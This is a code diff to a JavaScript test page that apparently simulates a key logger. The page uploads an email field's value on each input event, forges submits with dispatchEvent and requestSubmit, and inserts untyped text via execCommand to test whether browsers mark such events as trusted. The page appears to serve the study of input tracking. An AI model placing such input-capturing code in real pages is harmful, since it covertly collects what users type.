@@ -78,13 +78,17 @@
 
   // 8. A key logger that uploads the field's raw value on every input event, trusted or not, and
   //    right after each upload tries to withdraw the value with a synthetic submit and a scripted
-  //    one (requestSubmit, without the user doing anything).
+  //    one (requestSubmit, without the user doing anything). After the scripted text's upload it
+  //    inserts other text with execCommand (10.).
+  var SCRIPTED_TEXT = 'forged.victim@example.org';
+  var EXEC_TEXT = 'exec.victim@example.org';
   document.addEventListener('DOMContentLoaded', function () {
     var form = document.getElementById('signup');
     var field = document.getElementById('email');
     form.addEventListener('submit', function (e) { e.preventDefault(); });
     var timer = null;
-    field.addEventListener('input', function () {
+    field.addEventListener('input', function (e) {
+      if (field.value === EXEC_TEXT) log('exec-input:trusted=' + e.isTrusted + ',type=' + e.inputType);
       if (field.value.indexOf('@') < 0) return;
       clearTimeout(timer);
       timer = setTimeout(upload, 300); // as replay scripts do: a moment after the last keystroke
@@ -96,10 +100,18 @@
           form.dispatchEvent(new Event('submit', { bubbles: true, cancelable: true }));
           form.requestSubmit();
           return log('forged-submit:' + value);
-        });
+        })
+        .then(function () { if (value === SCRIPTED_TEXT) insertByCommand(); });
+    }
+    // 10. Text nobody typed, inserted by the editing command: the browser itself then fires an
+    //     input event (trusted), but no beforeinput.
+    function insertByCommand() {
+      field.value = '';
+      field.focus();
+      log('exec-command:' + document.execCommand('insertText', false, EXEC_TEXT));
     }
     // 9. Text nobody typed: the value set by script, then a synthetic input event.
-    field.value = 'forged.victim@example.org';
+    field.value = SCRIPTED_TEXT;
     field.dispatchEvent(new Event('input', { bubbles: true }));
   });
 })();
